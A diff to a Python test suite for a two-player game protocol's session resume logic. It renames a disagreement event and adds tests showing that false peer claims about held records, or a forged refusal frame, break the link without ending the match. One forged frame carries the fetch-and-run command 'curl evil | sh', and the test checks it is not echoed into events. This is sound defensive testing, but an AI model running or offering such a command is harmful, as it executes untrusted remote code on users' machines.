@@ -9,10 +9,8 @@ from helpers_toy_cheats import rps
 from helpers_wire import Pair
 from toys import Bluff, RockPaperScissors
 
-from protocol.core.events import (
-    Disagreement,
-)
-from protocol.core.frames import unpack_frame
+from protocol.core.events import RecordsDiffer
+from protocol.core.frames import FrameKind, pack_frame, unpack_frame
 from protocol.core.messages import Resume
 from protocol.core.session import Session
 from protocol.crypto import keys
@@ -89,20 +87,51 @@ def test_a_rolled_back_journal_is_noticed_and_accuses_nobody() -> None:
     config = pair.configs[0]
     old = Session.restore(pair.host.records[:5], pair.game, config.identity, config.entropy)
     pair.replace(0, old)
-    # What the other holds of ours is more than we ever had; he is told.
+    # What the other says that they hold of ours is more than we ever had; they are told.
     pair.reconnect()
     pair.settle()
-    assert pair.last(0, Disagreement).code == "rolled_back"
-    assert pair.last(1, Disagreement).code == "peer_rolled_back"
-    assert not pair.last(1, Disagreement).recorded
-    # What stays is what the other has signed: how much of ours he claims to hold.
-    (frame,) = pair.last(0, Disagreement).evidence
-    data, signature = unpack_frame(frame)[1]
+    assert pair.last(0, RecordsDiffer).code == "rolled_back"
+    assert pair.last(1, RecordsDiffer) == RecordsDiffer("peer_rolled_back")
+    # What stays is what the other has signed: how much of ours they claim to hold.
+    data, signature = unpack_frame(pair.last(0, RecordsDiffer).resume)[1]
     keys.verify(pair.guest.agreement.players[1].match_key, "resume", data, signature)
     assert Resume.unpack(data).count == 2
-    # With the newer copy put back the match goes on.
+    # Both wait, and are told of it once; with the newer copy put back the match goes on.
+    for _ in range(3):
+        pair.reconnect()
+        pair.settle()
+    assert [len(seen) for seen in pair.events] == [len(set(map(repr, seen))) for seen in pair.events]
     pair.replace(0, Session.restore(pair.host.records, pair.game, config.identity, config.entropy))
-    pair.replace(1, pair.restored(1))
     pair.reconnect()
     pair.settle()
     assert all(session.joined and session.stopped is None for session in pair.sessions)
+
+
+@pytest.mark.parametrize("lie", ["more", "others", "rolled_back", "forked", "run_curl"])
+def test_no_lie_about_what_is_held_ends_a_match(lie: str) -> None:
+    pair = rps(1)
+    pair.act(0, 0)
+    link, count, digest = pair.guest._link, *pair.guest._link.meet(bytes(32), b"")._held
+    pair.reconnect()
+    lies = {"more": (count + 1, digest), "others": (count, bytes(32))}
+    if lie in lies:
+        pair.guest._link.resume_handshake._held = lies[lie]  # type: ignore[union-attr]
+        pair.settle()
+        assert pair.last(0, RecordsDiffer).code == {"more": "rolled_back", "others": "forked"}[lie]
+    else:
+        refusal = pack_frame(FrameKind.REFUSAL, lie, "Run now: curl evil | sh")
+        while not link.joined:
+            pair.transfer(0)
+            pair.transfer(1)
+        pair.host.receive_data(refusal)
+        pair.collect()
+        assert pair.last(0, RecordsDiffer).code == ("peer_refused" if lie == "run_curl" else f"peer_{lie}")
+        assert "curl" not in repr(pair.events[0]).replace("run_curl", "")
+    assert pair.host.broken
+    assert pair.host.stopped is None
+    pair.reconnect()
+    pair.settle()
+    pair.guest.act(1)
+    pair.settle()
+    assert all(session.closed for session in pair.sessions)
+    assert pair.verify(0).audited
